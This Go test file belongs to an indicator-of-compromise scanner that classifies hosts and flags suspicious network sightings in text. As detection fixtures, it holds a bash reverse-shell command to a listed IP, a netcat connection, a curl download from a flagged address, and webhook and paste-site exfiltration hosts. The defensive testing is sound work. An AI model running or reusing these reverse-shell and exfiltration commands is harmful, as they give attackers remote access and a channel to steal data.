package ioc

import (
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"strings"
	"testing"

	"clawjail/policy/skill"
)

func TestEmbeddedListParses(t *testing.T) {
	l, err := Parse(embedded)
	if err != nil {
		t.Fatal(err)
	}
	if l.Date == "" || len(l.addrs) == 0 || len(l.hosts) == 0 {
		t.Errorf("%+v", l)
	}
}

func TestClassify(t *testing.T) {
	for host, want := range map[string]Kind{
		"45.9.148.108": Address, "10.0.0.1": None, "127.0.0.1": None, "8.8.8.8": None, "192.0.2.7": None, "3232235777": Address, "0x7f000001": Address,
		"a1.ngrok-free.app": Tunnel, "webhook.site": Bin, "abc.oast.fun": Bin, "rentry.co": Paste, "x.duckdns.org": Dynamic, "bit.ly": Shortener,
		"api.telegram.org": Messenger, "abcdef.onion": Onion, "xn--80ak6aa92e.com": Punycode, "api.github.com": None, "notbit.ly.example": None,
	} {
		if got := Classify(host); got != want {
			t.Errorf("%s: %q, want %q", host, got, want)
		}
	}
}

func TestSightings(t *testing.T) {
	l := Embedded()
	for text, want := range map[string]string{
		"curl http://91.92.242.30/x":                     "91.92.242.30",
		"bash -i >& /dev/tcp/45.9.148.108/4444":          "45.9.148.108",
		"nc 45.9.148.108 4444":                           "45.9.148.108",
		"see https://glot.io/snippets/hfd3x9ueu5 please": "glot.io",
		"post to webhook.site/1234-abcd":                 "webhook.site",
		"hxxp://45.9.148.108/a":                          "45.9.148.108",
		"version 1.2.3.4 of it":                          "",
		"https://api.github.com/x":                       "",
		"evil[.]duckdns[.]org is an indicator":           "",
		"https://discord.com/api/webhooks/1/x":           "discord.com",
		"https://discord.com/developers":                 "",
	} {
		got := ""
		if s := l.Sightings(text); len(s) > 0 {
			got = s[0].Host
		}
		if got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}

func TestListedIsCritical(t *testing.T) {
	f := Embedded().Findings("curl http://91.92.242.30/x", func(int) skill.Place { return skill.Place{} }, Context{})
	if len(f) != 1 || f[0].Rule != "CJS-NET-008" || f[0].Severity != skill.Critical || f[0].Confidence != skill.ConfidenceHigh {
		t.Errorf("%+v", f)
	}
}

func TestParseRefuses(t *testing.T) {
	for _, text := range []string{"", "host x", "date 2026-01-01\nip x", "date 2026-01-01\nsha256 ab", "date 2026-01-01\nwhat x", "date 2026-01-01\nhost", "date soon"} {
		if _, err := Parse([]byte(text)); err == nil {
			t.Errorf("%q was accepted", text)
		}
	}
}

func TestOpenWantsASignature(t *testing.T) {
	sum := sha256.Sum256([]byte("payload"))
	text := []byte("date 2026-03-01\nsha256 " + hex.EncodeToString(sum[:]) + " test\nhost bad.invalid a note\n")
	refuse := func([]byte, []byte) error { return errors.New("no") }
	if _, err := Open(text, nil, refuse); err == nil || !strings.Contains(err.Error(), "signature") {
		t.Errorf("%v", err)
	}
	l, err := Open(text, nil, func([]byte, []byte) error { return nil })
	if err != nil {
		t.Fatal(err)
	}
	if note, ok := l.File([]byte("payload")); !ok || note != "test" {
		t.Errorf("%q %v", note, ok)
	}
	if note, ok := l.Host("api.BAD.invalid", "/x"); !ok || note != "a note" {
		t.Errorf("%q %v", note, ok)
	}
}

func FuzzParse(f *testing.F) {
	f.Add([]byte("date 2026-01-01\nhost a.b/c note\nip ::1\n"))
	f.Fuzz(func(_ *testing.T, text []byte) { _, _ = Parse(text) })
}

func FuzzSightings(f *testing.F) {
	f.Add("http://[::1]:80/x hxxp://1.2.3.5 a[.]b /dev/tcp/9.9.9.8/1 webhook.site/\xff")
	l := Embedded()
	f.Fuzz(func(t *testing.T, text string) {
		for _, s := range l.Sightings(text) {
			if s.Offset < 0 || s.Offset > len(text) {
				t.Fatalf("%+v", s)
			}
		}
	})
}
